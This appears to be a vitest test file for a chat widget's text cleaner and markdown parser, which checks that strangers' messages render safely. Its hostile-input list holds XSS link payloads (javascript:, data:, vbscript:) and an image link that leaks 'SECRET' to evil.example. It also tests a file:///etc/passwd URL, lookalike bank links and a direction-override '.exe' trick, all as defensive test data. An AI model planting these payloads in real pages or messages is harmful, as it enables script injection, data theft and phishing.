// Text of strangers on screen: what becomes of markup, links and invisible characters. Own copies of attack inputs;
// the full lists run as well where ../shared/data is at hand.
import { existsSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanName, cleanText } from '../../widget/ui/clean-text.ts';
import { isMarkedUp } from '../../widget/ui/is-marked-up.ts';
import { parseMarkdown, parsePlain, type Span } from '../../widget/ui/parse-text.ts';

const attackFile = new URL('../../../shared/data/attacks.mjs', import.meta.url);

function spansOf(text: string): Span[] {
  return parseMarkdown(text).flatMap((block) => (block.kind === 'list' ? block.items : block.lines).flat());
}
const linksOf = (text: string) => spansOf(text).flatMap((span) => (span.kind === 'link' ? [span] : []));
const wordsOf = (spans: Span[]): string =>
  spans.map((span) => ('spans' in span ? wordsOf(span.spans) : span.text)).join('');

const hostile = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '![x](https://evil.example/?c=SECRET)',
  'file:///etc/passwd',
  'intent://x#Intent;end',
  'blob:https//x/y',
];

describe('a text without markup', () => {
  it('is one paragraph of plain lines, however it is parsed', () => {
    const bits = fc.constantFrom(...'a \n\t-•*_`[]()1.', 'http://a.b');
    const texts = fc.string({
      unit: fc.oneof(bits, fc.string({ minLength: 1, maxLength: 1, unit: 'grapheme' })),
      maxLength: 24,
    });
    fc.assert(
      fc.property(texts, (text) => {
        const clean = cleanText(text);
        if (isMarkedUp(clean)) return;
        const lines = clean.split('\n').map((line) => [{ kind: 'text', text: line }]);
        expect(parseMarkdown(clean)).toEqual([{ kind: 'paragraph', lines }]);
        expect(parsePlain(clean)).toEqual([{ kind: 'paragraph', lines }]);
      }),
    );
  });

  it('is what most is', () => {
    for (const text of [
      'Hello, I am Ana.\nHow can I help?',
      'From 9:00 to 17:00 (about 3.5 kg - or 4).',
      'a-b',
    ])
      expect(isMarkedUp(text)).toBe(false);
    for (const text of ['- one\n- two', 'See https://a.example', 'It is *not* done', 'One.\n\nTwo.'])
      expect(isMarkedUp(text)).toBe(true);
  });
});

describe('links', () => {
  it.each(hostile)('makes no link of %j', (text) => {
    expect(linksOf(cleanText(text))).toEqual([]);
  });

  it('never makes an image of what is written as one', () => {
    expect(spansOf('![x](https://evil.example/?c=SECRET)').every(({ kind }) => kind !== 'em')).toBe(true);
    expect(wordsOf(spansOf('![x](https://evil.example/?c=SECRET)'))).toBe(
      '![x](https://evil.example/?c=SECRET)',
    );
  });

  it('makes links of http, https, mailto and tel', () => {
    const text = '[a](http://a.example) [b](https://b.example/x) [c](mailto:c@d.example) [d](tel:+491234)';
    expect(linksOf(text).map(({ href }) => href)).toEqual([
      'http://a.example/',
      'https://b.example/x',
      'mailto:c@d.example',
      'tel:+491234',
    ]);
  });

  it('says the true host when the words do not', () => {
    expect(linksOf('[our bank](https://evil.example/login)')[0]?.host).toBe('evil.example');
    expect(linksOf('[bank.example](https://evil.example/login)')[0]?.host).toBe('evil.example');
    expect(linksOf('[bank.example](https://bank.example@evil.example/)')[0]?.host).toBe('evil.example');
    expect(linksOf('[help.example/bags](https://help.example/bags)')[0]?.host).toBeUndefined();
  });

  it('leaves the full stop after an address outside of it', () => {
    expect(linksOf('See https://a.example/x.')[0]?.href).toBe('https://a.example/x');
  });
});

describe('small markdown', () => {
  it('knows bold, italic, code and lists', () => {
    expect(parseMarkdown('**a** *b* `c`\n- d\n- e')).toEqual([
      {
        kind: 'paragraph',
        lines: [
          [
            { kind: 'strong', spans: [{ kind: 'text', text: 'a' }] },
            { kind: 'text', text: ' ' },
            { kind: 'em', spans: [{ kind: 'text', text: 'b' }] },
            { kind: 'text', text: ' ' },
            { kind: 'code', text: 'c' },
          ],
        ],
      },
      { kind: 'list', ordered: false, items: [[{ kind: 'text', text: 'd' }], [{ kind: 'text', text: 'e' }]] },
    ]);
  });

  it('leaves arithmetic, names and HTML as they are', () => {
    for (const text of ['2 * 3 * 4', 'some_file_name', '<b>x</b>', '** not bold **'])
      expect(wordsOf(spansOf(text))).toBe(text);
    expect(spansOf('<b>x</b>').every(({ kind }) => kind === 'text')).toBe(true);
  });

  it('shows a customer’s own words as typed, with addresses as links', () => {
    const [block] = parsePlain('**a** https://b.example');
    expect(block).toEqual({
      kind: 'paragraph',
      lines: [
        [
          { kind: 'text', text: '**a** ' },
          { kind: 'link', href: 'https://b.example/', text: 'https://b.example' },
        ],
      ],
    });
  });

  it('keeps every word of whatever it is given', () => {
    const text = `${'['.repeat(2000)}${'*'.repeat(2000)}`;
    expect(wordsOf(spansOf(text))).toBe(text);
  });
});

describe('invisible characters', () => {
  it('takes out what overrides the direction, so that ".exe" stands last', () => {
    expect(cleanText('invoice\u202egnp.exe')).toBe('invoicegnp.exe');
    expect(cleanText('\u2066\u2067x\u202dabc')).toBe('xabc');
  });

  it('keeps the marks that right-to-left writing needs in a message, not in a name', () => {
    expect(cleanText('a\u200fb')).toBe('a\u200fb');
    expect(cleanName('a\u200fb\u061c')).toBe('ab');
  });

  it('caps marks on one character at eight, replaces lone surrogates, drops NUL', () => {
    expect(cleanText(`a${'\u0301'.repeat(2000)}`)).toHaveLength(9);
    expect(cleanText('\ud800x\u0000')).toBe('\ufffdx');
    expect(cleanText('👨‍👩‍👧')).toBe('👨‍👩‍👧');
  });

  it('keeps lines and cuts names to one line of eighty', () => {
    expect(cleanText('a\r\nb\u2028c')).toBe('a\nb\nc');
    expect(cleanName(`a\n${'W'.repeat(4000)}`)).toHaveLength(80);
  });
});

describe.runIf(existsSync(attackFile))('the lists of ../shared/data/attacks.mjs', () => {
  it('A37: nothing but http, https, mailto and tel; A39, A41: nothing that reorders or towers', async () => {
    const { attacks } = (await import(attackFile.href)) as { attacks: { id: string; strings?: string[] }[] };
    const strings = (id: string) => attacks.find((attack) => attack.id === id)?.strings ?? [];
    for (const text of strings('A37'))
      for (const { href } of linksOf(cleanText(text))) expect(href).toMatch(/^(https?:|mailto:|tel:)/);
    for (const text of [...strings('A39'), ...strings('A41')]) {
      expect(cleanText(text)).not.toMatch(/[\u202a-\u202e\u2066-\u2069\ufffe]|\0|\p{Surrogate}/u);
      expect(cleanText(text)).not.toMatch(/\p{M}{9}/u);
    }
  });
});
if (!existsSync(attackFile)) console.log('../shared/data is not here: the full attack lists were not run.');
